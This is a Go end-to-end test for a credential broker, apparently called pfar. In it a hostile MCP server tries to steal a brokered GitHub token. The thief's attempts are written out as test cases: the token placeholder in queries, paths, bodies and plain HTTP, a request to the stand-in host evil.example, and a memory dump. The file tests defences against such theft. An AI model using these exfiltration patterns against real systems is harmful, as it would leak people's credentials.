package e2e

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pfar/pfar/policies/redact"
	"github.com/pfar/pfar/units/control"
)

const (
	githubToken  = "ghp_0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX"
	githubToken2 = "ghp_9zY8xW7vU6tS5rQ4pO3nM2lK1jI0hG9fE8dC"
)

// apiCall is what the stand-in for some APIs says of a request, a line each.
type apiCall struct{ Host, Path, Authorization, Query string }

// serveAPIs answers for api.notion.com, api.github.com and evil.example, with TLS and without. What it is asked for at
// /echo comes back in every form that a secret may take.
func serveAPIs(certificate string) error {
	pair, err := tls.LoadX509KeyPair(certificate, certificate)
	if err != nil {
		return err
	}
	out := json.NewEncoder(os.Stdout)
	mux := http.NewServeMux()
	answer := func(text string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, text)
		}
	}
	mux.Handle("/v1/search", answer(`{"object":"list","results":[{"object":"page","id":"1","properties":{"title":"the pfar roadmap"}}],"has_more":false}`))
	mux.HandleFunc(notionSelf, answerSelf)
	mux.Handle("/search/repositories", answer(`{"total_count":0,"incomplete_results":false,"items":[]}`))
	mux.Handle("/device", answer(`{"device_code":"DC-hunter2","user_code":"A-B",`+
		`"verification_uri":"https://api.github.com/d","interval":1}`))
	mux.HandleFunc("/token", func(w http.ResponseWriter, r *http.Request) { // good once
		w.Header().Set("Content-Type", "application/json")
		if r.FormValue("device_code") == "DC-hunter2" {
			fmt.Fprintf(w, `{"access_token":%q,"refresh_token":"RT-0-hunter2hunter2","expires_in":60}`, githubToken)
			return
		}
		if r.FormValue("refresh_token") != "RT-0-hunter2hunter2" {
			w.WriteHeader(http.StatusBadRequest)
		}
		fmt.Fprintf(w, `{"access_token":%q,"refresh_token":"RT-1-hunter2hunter2","token_type":"bearer","expires_in":3600}`, githubToken2)
	})
	mux.HandleFunc("/echo", func(w http.ResponseWriter, r *http.Request) {
		_, token, _ := strings.Cut(r.Header.Get("Authorization"), " ")
		w.Header().Set("X-Token", token)
		var body io.Writer = w
		if r.URL.Query().Has("gzip") {
			w.Header().Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(w)
			defer z.Close()
			body = z
		}
		request, _ := httputil.DumpRequest(r, true)
		body.Write(request)
		for _, form := range redact.Forms("x" + token + "y") {
			for i := 0; i < len(form); i += 7 { // in pieces
				io.WriteString(body, form[i:min(i+7, len(form))])
				w.(http.Flusher).Flush()
			}
			io.WriteString(body, "\n")
		}
	})
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == notionSelf || r.URL.Query().Get("per_page") == "1" { // by which pfar verifies tokens
			mux.ServeHTTP(w, r)
			return
		}
		out.Encode(apiCall{r.Host, r.URL.Path, r.Header.Get("Authorization"), r.URL.RawQuery})
		mux.ServeHTTP(w, r)
	})
	secure, err := tls.Listen("tcp", ":443", &tls.Config{Certificates: []tls.Certificate{pair}, NextProtos: []string{"h2", "http/1.1"}})
	if err != nil {
		return err
	}
	plain, err := net.Listen("tcp", ":80")
	if err != nil {
		return err
	}
	fmt.Println("ready")
	ended := make(chan error, 2)
	for _, l := range []net.Listener{secure, plain} {
		server := &http.Server{Handler: handler, TLSConfig: &tls.Config{NextProtos: []string{"h2"}}} // else it would not speak what the listener offers
		go func() { ended <- server.Serve(l) }()
	}
	return <-ended
}

// startAPIs starts the stand-in, and returns the wrap for a pfar that knows it by name and trusts it as it does the
// world.
func startAPIs(t testing.TB) (requests <-chan apiCall, wrap []string) {
	t.Helper()
	return startStandIn[apiCall](t, "apis", []string{notionHost, "api.github.com", "evil.example"})
}

// startStandIn starts one for the hosts of these names, which plays a role with arguments.
func startStandIn[message any](t testing.TB, role string, names []string, args ...string) (said <-chan message, wrap []string) {
	t.Helper()
	dir := directory(t, "")
	authority, certificate := filepath.Join(dir, "ca.pem"), filepath.Join(dir, "server.pem")
	makeCertificates(t, authority, certificate, names...)
	pid, said := startRole[message](t, role, certificate, args...)
	const bundle = "/etc/ssl/certs/ca-certificates.crt"
	roots, err := os.ReadFile(bundle)
	check(t, err)
	ours, err := os.ReadFile(authority)
	check(t, err)
	hosts, trusted := filepath.Join(dir, "hosts"), filepath.Join(dir, "roots.pem")
	put(t, hosts, "127.0.0.1 localhost\n"+notionAddress+" "+strings.Join(names, " ")+"\n")
	put(t, trusted, string(roots)+string(ours))
	script := fmt.Sprintf(`set -e
ip link set lo up
ip link add pfar0 type veth peer name pfar1 netns %[1]d
# An address that is there a second later is a change of network to Chromium, which drops the page that it loads.
ip link set pfar0 addrgenmode none
ip addr add %[2]s/24 dev pfar0
ip link set pfar0 up
nsenter --net=/proc/%[1]d/ns/net ip addr add %[3]s/24 dev pfar1
nsenter --net=/proc/%[1]d/ns/net ip link set pfar1 up
mount --bind %[4]s /etc/hosts
mount --bind %[5]s %[6]s
exec "$@"`, pid, ourAddress, notionAddress, hosts, trusted, bundle)
	return said, []string{"unshare", "--net", "--mount", "--propagation", "private", "sh", "-c", script, "sh"}
}

// TestBrokered runs real servers that hold placeholders, against stand-ins for the APIs that they speak to, beside a
// hostile one that does all it can to see a value.
func TestBrokered(t *testing.T) {
	if os.Getuid() != 0 {
		return // another network takes root, and the test has run as root
	}
	t.Parallel()
	requests, wrap := startAPIs(t)
	brokered := func(variable, key string) string {
		return fmt.Sprintf("auth = { %s = { secret = \"vault:%s\", deliver = \"broker\", hosts = [HOST] } }\n", variable, key)
	}
	p := prepare(t, map[string]string{
		"notion.hcl": `allowed_domains = ["api.notion.com"]` + "\n" + declare("node", []string{npm(t, "@notionhq/notion-mcp-server/bin/cli.mjs")},
			strings.ReplaceAll(brokered("NOTION_TOKEN", "notion_token"), ", hosts = [HOST]", "")),
		"github.hcl": `allowed_domains = ["api.github.com"]` + "\n" + declare("node", []string{npm(t, "@modelcontextprotocol/server-github/dist/index.js")},
			strings.ReplaceAll(brokered("GITHUB_PERSONAL_ACCESS_TOKEN", "github_token"), "HOST", `"api.github.com"`)),
		"thief.hcl": `allowed_domains = ["api.github.com", "evil.example"]` + "\n" + declare(program(t, "hostile"), nil,
			strings.ReplaceAll(brokered("TOKEN", "github_token"), "HOST", `"api.github.com"`)),
	})
	p.up(wrap...)
	p.await("the servers waiting", soon, func(r control.Report) bool {
		return server(r, "notion").State == control.Waiting && server(r, "github").State == control.Waiting
	})
	p.keep("set", "notion_token", notionToken)
	p.keep("set", "github_token", githubToken)
	r := p.awaitRunning("notion", "github", "thief")
	c := p.client("/mcp")

	if got := c.must("notion__API-post-search", map[string]any{"query": "roadmap"}); !strings.Contains(got, "the pfar roadmap") {
		t.Errorf("notion found %s", got)
	}
	wantAsked(t, requests, apiCall{notionHost, "/v1/search", "Bearer " + notionToken, ""})
	c.must("github__search_repositories", map[string]any{"query": "pfar"})
	wantAsked(t, requests, apiCall{Host: "api.github.com", Path: "/search/repositories", Authorization: "Bearer " + githubToken})
	theft(t, p, requests, githubToken)

	// Another value is on the wire at once, and nothing is started again for it.
	p.keep("rotate", "github_token", githubToken2)
	theft(t, p, requests, githubToken2)
	again := p.awaitRunning("notion", "github", "thief")
	for _, name := range []string{"notion", "github", "thief"} {
		if before, after := server(r, name).PID, server(again, name).PID; before != after {
			t.Errorf("%s was started again", name)
		}
	}
	for _, value := range []string{notionToken, githubToken2} {
		if got := whoHolds(t, p, value); len(got) == 0 || slices.ContainsFunc(got, func(name string) bool { return name != "pfar-egress" && name != "pfard" }) {
			t.Errorf("these hold a value in memory: %q", got)
		}
		assertSecretNowhere(t, p, value)
	}
}

// keep gives the vault a value.
func (p *pfar) keep(verb, key, value string) {
	p.t.Helper()
	p.stdin = value + "\n"
	if _, stderr, code := p.command("vault", verb, key); code != 0 {
		p.t.Fatalf("pfar vault %s: %d: %s", verb, code, stderr)
	}
}

func wantAsked(t *testing.T, requests <-chan apiCall, want apiCall) {
	t.Helper()
	select {
	case got := <-requests:
		if want.Query == "" {
			got.Query = ""
		}
		if got != want {
			t.Errorf("the stand-in was asked %+v, want %+v", got, want)
		}
	case <-time.After(soon):
		t.Errorf("the stand-in was not asked %+v", want)
	}
}

// theft has the hostile server try to get at the value for which it holds a placeholder.
func theft(t *testing.T, p *pfar, requests <-chan apiCall, value string) {
	t.Helper()
	c := p.client("/mcp/thief")
	bearer := map[string]any{"Authorization": "Bearer $TOKEN"}
	unseen := func(what, text string) {
		t.Helper()
		for _, form := range redact.Forms(value) {
			if strings.Contains(text, form) {
				t.Errorf("%s: the server sees the value as %q", what, form)
				return
			}
		}
	}
	get := func(url string, headers map[string]any, body string) string {
		t.Helper()
		if headers == nil {
			headers = map[string]any{}
		}
		r, err := c.call("fetch", map[string]any{"method": "POST", "url": url, "headers": headers, "body": body})
		check(t, err)
		unseen(url, r.text)
		return r.text
	}
	for _, url := range []string{"https://api.github.com/echo", "https://api.github.com/echo?gzip"} {
		if got := get(url, bearer, ""); !strings.Contains(got, "200 OK") || !strings.Contains(got, "X-Token: ghp_") || !strings.Contains(got, "xghp_") {
			t.Errorf("%s: %s", url, got)
		}
		_, query, _ := strings.Cut(url, "?")
		wantAsked(t, requests, apiCall{"api.github.com", "/echo", "Bearer " + value, query})
	}
	// What is not declared is refused, and nothing of it arrives.
	for name, f := range map[string]func() string{
		"query":               func() string { return get("https://api.github.com/echo?token=$TOKEN", nil, "") },
		"path":                func() string { return get("https://api.github.com/echo/$TOKEN", nil, "") },
		"another field":       func() string { return get("https://api.github.com/echo", map[string]any{"X-Key": "$TOKEN"}, "") },
		"body":                func() string { return get("https://api.github.com/echo", nil, `{"note":"$TOKEN"}`) },
		"in clear":            func() string { return get("http://api.github.com/echo", bearer, "") },
		"in clear, elsewhere": func() string { return get("http://evil.example/echo", bearer, "") },
	} {
		if got := f(); !strings.Contains(got, "403") && !strings.Contains(got, "fetching: ") {
			t.Errorf("%s: %s", name, got)
		}
	}
	// Elsewhere the bridge opens nothing: there it is a word like others.
	if got := get("https://evil.example/echo", bearer, ""); !strings.Contains(got, "200 OK") {
		t.Errorf("another host: %s", got)
	}
	select {
	case got := <-requests:
		if !regexp.MustCompile(`^Bearer ghp_[0-9A-Za-z]{36}$`).MatchString(got.Authorization) || strings.Contains(got.Authorization, value) || got.Host != "evil.example" || got.Path != "/echo" {
			t.Errorf("another host was asked %+v", got)
		}
	case <-time.After(soon):
		t.Error("another host was not asked")
	}
	veiled := []byte(value)
	for i := range veiled {
		veiled[i] ^= 0x5a
	}
	if got := attack(t, c, probe{"dump", hex.EncodeToString(veiled)}); !got.Blocked || got.Error != "" {
		t.Errorf("a dump of the sandbox: %+v", got)
	}
}

// whoHolds returns the programs of pfar and its servers that have a text in their memory.
func whoHolds(t *testing.T, p *pfar, text string) []string {
	t.Helper()
	var found []string
	for _, d := range descendants(p.cmd.Process.Pid) {
		held, err := inMemory(d.pid, []byte(text))
		if err != nil && !errors.Is(err, os.ErrNotExist) && !errors.Is(err, syscall.ESRCH) { // it has ended
			t.Errorf("reading the memory of %s: %v", d.name, err)
		}
		if held && !slices.Contains(found, d.name) {
			found = append(found, d.name)
		}
	}
	slices.Sort(found)
	return found
}

// inMemory reports whether a process has a text in memory, or in its environment and arguments, which are there as
// well.
func inMemory(pid int, text []byte) (bool, error) {
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return false, err
	}
	defer maps.Close()
	memory, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return false, err
	}
	defer memory.Close()
	buffer := make([]byte, 1<<20)
	lines := bufio.NewScanner(maps)
	for lines.Scan() {
		span, rest, _ := strings.Cut(lines.Text(), " ")
		from, to, _ := strings.Cut(span, "-")
		at, err1 := strconv.ParseInt(from, 16, 64)
		end, err2 := strconv.ParseInt(to, 16, 64)
		if err1 != nil || err2 != nil || !strings.HasPrefix(rest, "r") || strings.Contains(rest, "[v") {
			continue
		}
		for at < end {
			n, err := memory.ReadAt(buffer[:min(int64(len(buffer)), end-at)], at)
			if bytes.Contains(buffer[:n], text) {
				return true, nil
			}
			if err != nil || n <= len(text) {
				break
			}
			at += int64(n - len(text)) // so that none lies across two
		}
	}
	return false, lines.Err()
}
